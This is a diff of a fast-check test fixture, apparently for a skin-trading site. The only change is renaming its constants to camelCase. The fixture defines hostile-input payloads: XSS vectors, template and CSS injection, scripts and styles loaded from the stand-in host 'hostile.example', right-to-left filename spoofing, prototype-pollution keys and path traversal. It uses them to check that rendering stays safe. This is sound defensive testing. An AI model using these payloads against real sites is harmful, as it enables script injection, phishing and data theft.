@@ -1,39 +1,39 @@
 import fc from 'fast-check';
 
 /** A global that every script among the texts sets, should one ever run. */
-export const CANARY = '__pwned';
+export const canary = '__pwned';
 
 /** A host that nothing may ever ask for anything. */
-export const HOSTILE_HOST = 'hostile.example';
+export const hostileHost = 'hostile.example';
 
-export const RUN = `window.${CANARY}=1`;
-export const ELSEWHERE = `https://${HOSTILE_HOST}`;
+export const run = `window.${canary}=1`;
+export const elsewhere = `https://${hostileHost}`;
 
-const MARKUP = [
-  `<script>${RUN}</script>`,
-  `<img src=x onerror="${RUN}">`,
-  `"><svg onload=${RUN}>`,
-  `' autofocus onfocus='${RUN}' x='`,
-  `</style></title></textarea><script src="${ELSEWHERE}/x.js"></script>`,
-  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
-  `<a href="javascript:${RUN}">free skins</a>`,
-  `<base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
-  `<form action="${ELSEWHERE}"><button>Deposit`,
+const markup = [
+  `<script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `"><svg onload=${run}>`,
+  `' autofocus onfocus='${run}' x='`,
+  `</style></title></textarea><script src="${elsewhere}/x.js"></script>`,
+  `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
+  `<a href="javascript:${run}">free skins</a>`,
+  `<base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+  `<form action="${elsewhere}"><button>Deposit`,
   `&lt;b&gt; &#x202e; &amp;amp;`,
-  `{{constructor.constructor('${RUN}')()}}`,
-  `\${${RUN}} $& $1 %s %c`,
-  `javascript:${RUN}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}} $& $1 %s %c`,
+  `javascript:${run}`,
 ];
 
-const STYLES = [
+const styles = [
   '<style>*{display:none!important}</style>',
-  `red;background:url(${ELSEWHERE}/c.png)`,
+  `red;background:url(${elsewhere}/c.png)`,
   '} body { position: fixed; inset: 0 } .card {',
-  `@import "${ELSEWHERE}/x.css";`,
+  `@import "${elsewhere}/x.css";`,
 ];
 
 /** Direction: overrides without an end, ends without a beginning, and honest right-to-left names. */
-const DIRECTIONS = [
+const directions = [
   '\u202e$00.001$ gpj.exe',
   '\u202d\u202e\u202b\u202a',
   '\u2067\u2066\u2068 AWP | Asiimov',
@@ -44,7 +44,7 @@ const DIRECTIONS = [
 ];
 
 /** What shows nothing at all, or something only now and then. */
-const UNSEEN = [
+const unseen = [
   '',
   ' ',
   '\t\r\n\u2028\u2029',
@@ -54,15 +54,15 @@ const UNSEEN = [
   '\u0000\u0001\u001b[31m\u007f\u0085',
 ];
 
-const BROKEN = ['\ud800', 'AWP \udc00', 'x\ud83d', '\uffff\ufffe', '\u{10ffff}\u{e0001}'];
+const broken = ['\ud800', 'AWP \udc00', 'x\ud83d', '\uffff\ufffe', '\u{10ffff}\u{e0001}'];
 
-const EMOJI = [
+const emoji = [
   '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u{1f1e9}\u{1f1ea}',
   '\u2764\ufe0f\u200d\u{1f525}\u{1f3fd}',
   'Z\u0334\u0322\u0327a\u0335\u0328\u0321l\u0336\u0322g\u0337\u0322o\u0338\u0328',
 ];
 
-const LONG = [
+const long = [
   'x'.repeat(10_000),
   'word '.repeat(2_000),
   '\u9f8d'.repeat(10_000),
@@ -74,22 +74,22 @@ const LONG = [
 ];
 
 /** Words that mean something to a careless reader of objects. */
-const WORDS = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'length'];
+const words = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'length'];
 
-const SHORT = [
-  ...MARKUP,
-  ...STYLES,
-  ...DIRECTIONS,
-  ...UNSEEN,
-  ...BROKEN,
-  ...EMOJI,
-  ...WORDS,
+const short = [
+  ...markup,
+  ...styles,
+  ...directions,
+  ...unseen,
+  ...broken,
+  ...emoji,
+  ...words,
   '../../client/trading/deposit',
 ];
 
 const payload = fc.oneof(
-  { weight: 12, arbitrary: fc.constantFrom(...SHORT) },
-  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
+  { weight: 12, arbitrary: fc.constantFrom(...short) },
+  { weight: 1, arbitrary: fc.constantFrom(...long) },
 );
 
 /** A text that a stranger wrote to do harm, alone or within something that looks like a name. */
